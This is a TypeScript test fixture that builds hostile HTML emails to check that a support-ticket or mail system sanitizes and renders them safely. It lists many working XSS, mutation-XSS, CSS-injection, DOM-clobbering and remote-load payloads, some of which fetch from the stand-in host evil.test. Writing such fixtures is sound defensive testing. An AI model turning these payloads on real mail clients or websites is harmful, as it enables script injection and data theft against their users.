/**
 * Hostile HTML by families: what should it ever run, it would set `window.hit` or ask evil.test.
 * Variants are made from patterns, so that a family is closed and not one spelling of it.
 */

const RUN = "window.hit=1;top.hit=1;fetch('//evil.test/x')"
const SITE = 'http://evil.test'

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart']
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' &#106;avascript:',
  'vbscript:',
  'data:text/html,<script>',
]

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${SITE}/a.js"></script>`,
  `<script/x>${RUN}</script foo>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `</textarea></title></style><script>${RUN}</script>`,
]

const handlers = HANDLERS.flatMap((handler) => [
  `<img src=x ${handler}="${RUN}">`,
  `<svg/${handler}="${RUN}"><details open ${handler}="${RUN}">x</details>`,
])

const links = SCHEMES.map((scheme) => `<a href="${scheme}${RUN}">click</a>`)

const embedded = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe src="${SITE}/frame"></iframe>`,
  `<object data="${SITE}/o.swf"></object>`,
  `<embed src="${SITE}/e.swf">`,
  `<form action="${SITE}/f"><input autofocus onfocus="${RUN}"><button>x</button></form>`,
  `<base href="${SITE}/"><img src="b.png">`,
  `<meta http-equiv="refresh" content="0;url=${SITE}/m">`,
  `<link rel="stylesheet" href="${SITE}/l.css">`,
  `<link rel="prefetch" href="${SITE}/p">`,
]

/** Namespaces and raw text that a parser reads one way and a browser another (mutation XSS). */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<xmp><img title="</xmp><img src onerror=${RUN}>"></xmp>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<a title="\`><img src=x onerror=${RUN}>">x</a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<p style="x:&quot;}</style><img src=x onerror=${RUN}>">x</p>`,
]

const styles = [
  `<style>@import url(${SITE}/i.css);body{background:url(${SITE}/bg)}</style>`,
  `<p style="background:url(${SITE}/s1)">x</p>`,
  `<p style="background-image:u\\72l(${SITE}/s2)">x</p>`,
  `<p style="width:expression(${RUN});-moz-binding:url(${SITE}/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">overlay</p>`,
  `<style>@font-face{font-family:x;src:url(${SITE}/f)}p{font-family:x}</style><p>x</p>`,
]

const remote = [
  `<img src="${SITE}/pixel.gif" width=1 height=1>`,
  `<img src="//evil.test/p2.gif">`,
  `<img srcset="${SITE}/a 1x, ${SITE}/b 2x">`,
  `<picture><source srcset="${SITE}/c"><img src="${SITE}/d"></picture>`,
  `<video poster="${SITE}/v" src="${SITE}/v.mp4" autoplay></video>`,
  `<audio src="${SITE}/a.mp3" autoplay></audio>`,
  `<table background="${SITE}/t"><tr><td background="${SITE}/td">x</table>`,
  `<body background="${SITE}/body" onload="${RUN}">`,
  `<input type=image src="${SITE}/in">`,
  `<svg><image href="${SITE}/si"/><use href="${SITE}/u#x"/></svg>`,
]

const clobbering = [
  `<a id="hit" href="x">x</a><form id="app" name="body"><input name="attributes"></form>`,
  `<img name="getElementById"><img name="cookie">`,
]

/** At least one of every family; each is one mail's HTML. */
export const HOSTILE_HTML: readonly string[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...embedded,
  ...mutations,
  ...styles,
  ...remote,
  ...clobbering,
]

/** For subjects, names and file names, which are shown in many places. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=window.hit=1>`,
  `"><svg onload=window.hit=1>`,
  `' onfocus=window.hit=1 autofocus='`,
  '{{constructor.constructor("window.hit=1")()}}',
  'javascript:window.hit=1',
  '\u202Egnp.exe <b>x</b>',
  '&lt;script&gt;window.hit=1&lt;/script&gt;',
]

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`

/** UTF-7, which some readers decode into tags. */
const utf7 = '+ADw-script+AD4-window.hit+AD0-1+ADsAPA-/script+AD4-'

export interface HostileMail {
  readonly html: string
  readonly id: string
  readonly inReplyTo: string
}

export const htmlMail = ({
  html,
  id,
  inReplyTo,
}: HostileMail): string => `From: Ana <ana@customer.test>
To: support@acme.test
Subject: Re: Hello
Message-ID: <${id}>
In-Reply-To: <${inReplyTo}>
References: <${inReplyTo}>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><body><p>Message ${id}</p>${html}<p>The end.</p></body></html>
`

export const utf7Mail = (id: string, inReplyTo: string): string =>
  htmlMail({ html: utf7, id, inReplyTo }).replace('charset=utf-8', 'charset=utf-7')

/** A ticket of its own, hostile in everything that is shown of it. */
export const namedMail = (
  text: string,
  index: number,
): string => `From: ${encoded(text)} <n${index}@example.org>
To: support@acme.test
Subject: ${encoded(`${index} ${text}`)}
Message-ID: <named-${index}@example.org>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=utf-8

${text}
--b
Content-Type: text/html; name="${encoded(`${text}.html`)}"
Content-Disposition: attachment; filename="${encoded(`${text}.html`)}"

<script>window.hit=1</script>
--b--
`
